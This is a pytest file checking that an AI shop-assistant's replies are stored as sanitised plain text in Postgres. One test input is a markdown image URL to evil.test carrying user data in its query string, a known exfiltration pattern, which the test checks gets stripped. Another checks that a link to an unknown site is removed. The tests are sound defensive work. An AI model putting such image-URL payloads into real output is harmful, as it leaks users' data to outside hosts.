"""The transactions of a running turn on a real Postgres."""

from collections.abc import Iterator
from typing import Any

import pytest
from pydantic import SecretStr

from storage import agui, merchants
from storage.database import Database
from storage.outbox import NewReply
from storage.vault import Vault, new_key_text
from tests import rows
from workers.agent.state import NewResults
from workers.agent.transactions import Message, NewStep, TurnTransactions
from workflows.loader import load_folder


@pytest.fixture
def database(database_url: str) -> Iterator[Database]:
    database = Database(database_url, pool_size=2)
    yield database
    database.dispose()


def test_a_turn_tells_once_that_it_has_begun(database: Database) -> None:
    rows.open_conversation(database)
    turn_id = rows.queue(database)
    transactions = TurnTransactions(database, load_folder(), lease_seconds=60.0, owner="test")
    told: list[str] = []
    for _ in range(3):  # it pauses between its messages, and is claimed again
        opened = transactions.open(turn_id)
        assert isinstance(opened, tuple)
        state, replies = opened
        told += [event["type"] for reply in replies for event in reply.body["data"]]
        transactions.release(state.claim)
    assert told == ["RUN_STARTED"]


def connect(database: Database) -> None:
    owner: dict[str, Any] = {"merchant_id": "m1", "shop_domain": "acme.myshopify.com"}
    vault, token = Vault.from_text(new_key_text()), SecretStr("shpat_0123456789abcdef")
    with database.transaction() as session:
        merchants.connect_shop(session, vault, **owner, access_token=token, scopes=[], emit=False)


def said(database: Database) -> list[str]:
    events = "SELECT e ->> 'delta' FROM replies, jsonb_array_elements(body -> 'data') AS e ORDER BY turn_id, sequence"
    found = rows.query(database, events)
    return [str(words) for (words,) in found if words is not None]


def test_whoever_wrote_them_words_leave_as_plain_text(database: Database) -> None:
    """A model's answer, a workflow's own text and a sentence about an error take the same way out."""
    connect(database)
    transactions = TurnTransactions(database, load_folder(), lease_seconds=60.0, owner="test", reply_characters=500)
    evil = "![x](https://evil.test/p.png?d=Anna) [orders](https://admin.shopify.com/store/acme/orders) <b>hi</b>"
    for way in ("step", "replies", "answer", "error", "long"):
        opened = transactions.open(rows.queue(database, way))
        assert isinstance(opened, tuple)
        state = opened[0]
        message = Message("m", evil if way != "long" else "word " * 1000)
        answer = NewStep(0, {"role": "assistant", "content": evil})
        if way == "step":
            transactions.add_step(state, answer, message, unless_newer=None)
        elif way == "replies":
            transactions.add_replies(state, [NewReply(way, agui.text(message.id, message.words))])
        error = ("some.code", evil) if way == "error" else None
        transactions.finish(state, message=message if way in ("answer", "long") else None, error=error)
    words = said(database)
    assert words[:4] == ["x orders (https://admin.shopify.com/store/acme/orders) hi"] * 4
    assert len(words[4]) <= 500


def test_the_shops_own_website_is_known_from_its_data(database: Database) -> None:
    connect(database)
    transactions = TurnTransactions(database, load_folder(), lease_seconds=60.0, owner="test")
    opened = transactions.open(rows.queue(database))
    assert isinstance(opened, tuple)
    state = opened[0]
    call = {"id": "c", "type": "function", "function": {"name": "shopify_data", "arguments": "{}"}}
    asks = NewStep(0, {"role": "assistant", "content": None, "tool_calls": [call]})
    transactions.add_step(state, asks, None, unless_newer=None)
    content = {"success": True, "data_type": "overview", "data": {"shop": {"website": "www.acme.example"}}}
    result = {"tool_call_id": "c", "name": "shopify_data", "content": content}
    state.keep_later(NewResults(0, [result], NewReply("0:results", [])))
    words = "Yours is www.acme.example/sale, not www.evil.example/sale."
    transactions.finish(state, message=Message("m", words))
    assert said(database) == ["Yours is www.acme.example/sale, not (link removed)."]
